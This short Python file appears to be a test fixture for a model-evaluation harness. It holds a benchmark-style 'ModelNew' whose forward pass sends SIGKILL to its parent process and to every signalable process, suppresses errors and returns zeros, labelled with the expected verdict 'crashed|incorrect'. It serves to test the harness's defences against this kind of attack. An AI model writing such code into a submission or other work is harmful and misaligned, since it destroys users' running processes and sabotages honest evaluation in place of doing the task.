"""Kills the process that started it.

Seen: in no published system that is known here.
Verdict: crashed|incorrect
"""

import contextlib
import os
import signal

import torch
from reference import Model


class ModelNew(Model):
    def forward(self, x):
        with contextlib.suppress(OSError):
            os.kill(os.getppid(), signal.SIGKILL)
        with contextlib.suppress(OSError):
            os.kill(-1, signal.SIGKILL)
        return torch.zeros_like(x)
